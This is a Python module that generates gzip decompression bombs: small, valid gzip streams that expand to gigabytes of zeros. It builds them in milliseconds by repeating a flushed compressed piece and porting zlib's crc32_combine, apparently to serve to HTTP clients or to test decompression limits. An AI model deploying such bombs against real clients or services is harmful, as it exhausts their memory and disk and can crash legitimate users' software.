"""A valid gzip stream of zeros that expands far beyond its size, built in milliseconds.

Compressing 10 GiB of zeros with zlib takes tens of seconds; instead one 1 MiB piece is
compressed and ended with a full flush, which resets the compressor's state, so every later
piece of zeros compresses to exactly the same bytes (checked, not assumed). The stream is the
first piece, that repeated piece, and a final empty block, wrapped in a gzip header and a
trailer whose CRC-32 of n zero bytes comes from zlib's crc32_combine, ported below (Python's
zlib does not expose it), so a client that does decode to the end finds a correct stream.
"""

from __future__ import annotations

import struct
import zlib
from functools import cache

__all__ = ["gzip_bomb"]

_PIECE = 1 << 20
# RFC 1952 §2.3: magic, deflate, no flags, no mtime, "maximum compression", unknown OS.
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"


@cache
def gzip_bomb(decoded_size: int) -> bytes:
    """A gzip member that decodes to `decoded_size` zero bytes (a multiple of 1 MiB).

    10 GiB comes out at about 10.6 MB (1037 bytes per MiB at level 9).
    """
    pieces, rest = divmod(decoded_size, _PIECE)
    if rest or pieces < 1:
        raise ValueError(f"the decoded size must be a positive multiple of {_PIECE} bytes")
    zeros = bytes(_PIECE)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)  # raw deflate
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    steady = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    if compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH) != steady:
        raise AssertionError("zlib's output for repeated pieces of zeros is not constant")
    end = compressor.flush(zlib.Z_FINISH)
    crc = _crc32_of_zeros(decoded_size)
    trailer = struct.pack("<II", crc, decoded_size & 0xFFFFFFFF)
    return b"".join((_HEADER, first, steady * (pieces - 1), end, trailer))


def _crc32_of_zeros(size: int) -> int:
    """zlib.crc32(bytes(size)), without touching `size` bytes: by doubling with combine."""
    crc, length, unit, unit_crc = 0, 0, _PIECE, zlib.crc32(bytes(_PIECE))
    pieces = size // _PIECE
    while pieces:
        if pieces & 1:
            crc = _crc32_combine(crc, unit_crc, unit) if length else unit_crc
            length += unit
        unit_crc = _crc32_combine(unit_crc, unit_crc, unit)
        unit *= 2
        pieces >>= 1
    return crc


def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """The CRC-32 of A + B from crc(A), crc(B) and len(B): zlib 1.2's crc32_combine."""
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)  # the first pass: one zero byte
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]
